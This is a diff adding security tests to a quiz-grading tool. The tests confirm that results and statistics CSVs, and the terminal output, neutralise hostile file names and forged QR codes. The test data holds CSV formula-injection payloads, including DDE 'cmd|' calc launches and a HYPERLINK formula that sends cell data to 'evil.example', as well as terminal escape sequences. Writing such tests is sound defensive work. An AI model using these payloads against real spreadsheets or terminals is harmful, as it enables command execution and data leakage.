@@ -493,3 +493,117 @@ def test_a_half_filled_bubble_is_flagged_not_counted(printed, tmp_path):
     got = read_csv(tmp_path / "r.csv")[1]
     assert got[6] == f"{row.number}: doubtful mark on {bubble.label}, not counted"
     assert got[6 + row.number] == ""
+
+
+
+# ---------------------------------------------------------------- hostile names and codes
+
+def test_csv_cells_are_never_formulas_and_numbers_stay_numbers():
+    from quizgen.runtime.csvsafe import csv_text, inert_cell
+
+    for formula in ["=1+1", "+1+1", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)", "\t=1+1", "\r=1+1", "-", "+", "=",
+                    "-1.5.2", "-1,5", "- 1", "-inf", "-nan", "-0x10", "-1_000", "+1e", "@"]:
+        assert inert_cell(formula) == "'" + formula, formula
+    for kept in ["-1.5", "-0.250", "+3", "-1", "-.5", "-1e-3", "1.5", "0", "", "a=1", " =1", "'=1", "x-1"]:
+        assert inert_cell(kept) == kept, kept
+    text = csv_text([["=1,2", "-1.5", 'say "=x"'], [1, -2]])
+    assert list(csv.reader(io.StringIO(text))) == [["'=1,2", "-1.5", 'say "=x"'], ["1", "-2"]]
+
+
+def test_results_csv_from_hostile_results():
+    """The writer itself, with Result objects: file names and problems that would be formulas,
+    control characters, and numbers that stay numbers."""
+    from quizgen.scans.grade import results_csv
+    from quizgen.scans.result import Result
+
+    results = [Result('=HYPERLINK("x").png', 1, problem="@SUM(1+1).png is neither a PDF nor an image"),
+               Result("-2+3+cmd|x.png", 2, problem="blank page: nothing printed or written on it"),
+               Result("\x1b[2J\r=1.png", 1, problem="\t=cmd"),
+               Result("ok.png", 1, version="A", student="-1", earned=1_500_000, out_of=2_000_000, flags=["-x"])]
+    rows = list(csv.reader(io.StringIO(results_csv(results, [1]))))
+    assert rows[0] == ["file", "page", "version", "student", "score", "max", "flags", "1"]
+    assert rows[1] == ["'=HYPERLINK(\"x\").png", "1", "", "", "", "",
+                       "'@SUM(1+1).png is neither a PDF nor an image", ""]
+    assert rows[2][0] == "'-2+3+cmd|x.png"
+    assert rows[3][0] == "\\x1b[2J\\x0d=1.png" and rows[3][6] == "\\x09=cmd"
+    assert rows[4] == ["ok.png", "1", "A", "-1", "1.5", "2", "'-x", ""]
+
+
+def test_stats_csv_keeps_a_negative_discrimination_a_number(tmp_path):
+    """Weak students right and strong ones wrong: discrimination -1.000, still a number."""
+    from quizgen.scans.result import Answer, Result
+    from quizgen.scans.stats import stats_csv
+
+    path = tmp_path / "demo.yaml"
+    path.write_text(BANK, encoding="utf-8")
+    bank = load_bank(path).bank
+    results = []
+    for i, right in enumerate([True, True, False, False]):
+        answer = Answer("capital", "A" if right else "B", (0,) if right else (1,), Fraction(int(right)))
+        results.append(Result(f"{i}.png", 1, version="A", earned=(i + 1) * 1_000_000, out_of=10_000_000,
+                              answers={1: answer}))
+    rows = list(csv.reader(io.StringIO(stats_csv(bank, results))))
+    capital = next(row for row in rows if row[1] == "capital")
+    assert capital[-1] == "-1.000" and capital[-2] == "0.500"
+    assert all(not cell.startswith("'") for row in rows for cell in row)
+
+
+def _blank_scans(folder: Path, names: list[str]) -> None:
+    for name in names:
+        Image.fromarray(np.full((120, 90), 250, np.uint8)).save(folder / name, format="PNG")
+
+
+def test_scan_names_that_are_formulas_or_escapes_stay_text(run_cli, tmp_path):
+    """`quizgen grade` run in the folder of scans named to be formulas (so the file column starts
+    with the name) and to clear the terminal: each cell is text, and nothing raw is printed."""
+    (tmp_path / "demo.yaml").write_text(BANK, encoding="utf-8")
+    blank = ['=HYPERLINK("evil.example?"&A1,"x").png', "-2+3+cmd|' -C calc'!A0.png", "+1+1.png",
+             "\x1b]0;pwned\x07\x1b[2J.png"]
+    _blank_scans(tmp_path, blank)
+    (tmp_path / "@SUM(1+1).png").write_text("not an image", encoding="utf-8")
+    result = run_cli("grade", "-o", "results.csv", "--stats", "stats.csv", "demo.yaml", "--", *blank, "@SUM(1+1).png",
+                     cwd=tmp_path)
+    assert result.exit_code == 1  # no page was graded
+    rows = read_csv(tmp_path / "results.csv")
+    assert [row[0] for row in rows[1:]] == [
+        "'=HYPERLINK(\"evil.example?\"&A1,\"x\").png", "'-2+3+cmd|' -C calc'!A0.png", "'+1+1.png",
+        "\\x1b]0;pwned\\x07\\x1b[2J.png", "'@SUM(1+1).png"]
+    assert rows[5][6].startswith("'@SUM(1+1).png is neither a PDF nor an image")
+    stats = read_csv(tmp_path / "stats.csv")
+    assert stats[0][0] == "question" and len(stats) == 10
+    formula_starts = ("=", "+", "-", "@", "\t", "\r")
+    for table in (rows, stats):
+        assert not [cell for row in table for cell in row if cell.startswith(formula_starts)]
+    printed = result.stdout + result.stderr
+    assert "\x1b" not in printed and "\x07" not in printed
+    assert "\\x1b]0;pwned\\x07\\x1b[2J.png: page 1: error: blank page" in result.stderr
+
+    result = run_cli("grade", "demo.yaml", "\x1b]0;pwned\x07\x1b[2J.png", cwd=tmp_path)  # the table printed
+    assert "\x1b" not in result.stdout and "\\x1b]0;pwned\\x07\\x1b[2J.png,1," in result.stdout
+
+
+def test_a_forged_qr_code_is_neither_a_formula_nor_an_escape(run_cli, tmp_path, monkeypatch):
+    """A QR code's text is printed on the sheet by anyone with a printer: a forged one naming a
+    bank or a version made of escapes and formulas is reported escaped, its cells inert."""
+    from quizgen.scans import locate
+
+    bank_path = tmp_path / "demo.yaml"
+    bank_path.write_text(BANK, encoding="utf-8")
+    fingerprint = answersheet.fingerprint(load_bank(bank_path).bank)
+    codes = {"bank.png": f"{answersheet.PAYLOAD_TAG} =cmd|'/C\x1b[2Jcalc'!A0 A 7 a4 1 {fingerprint}",
+             "version.png": f"{answersheet.PAYLOAD_TAG} sheets-demo @\x1b]0;x\x07 7 a4 1 {fingerprint}"}
+    _blank_scans(tmp_path, list(codes))
+    read = {}
+
+    def forged(image):  # what locate gives for a sheet whose QR code says codes[name]
+        text = codes[read.setdefault("names", list(codes)).pop(0)]
+        return locate.Found(locate.parse_payload(text), image, False)
+
+    monkeypatch.setattr(locate, "locate", forged)
+    result = run_cli("grade", bank_path, *codes, "-o", "results.csv", cwd=tmp_path)
+    assert result.exit_code == 1
+    rows = read_csv(tmp_path / "results.csv")
+    assert rows[1][6] == "answer sheet of bank '=cmd|'/C\\x1b[2Jcalc'!A0', not of 'sheets-demo'"
+    assert rows[2][6] == "the QR code names version '@\\x1b]0;x\\x07', which quizgen never prints"
+    assert "\x1b" not in result.stderr and "\x07" not in result.stderr
+    assert "bank.png: page 1: error: answer sheet of bank '=cmd|'/C\\x1b[2Jcalc'!A0'" in result.stderr
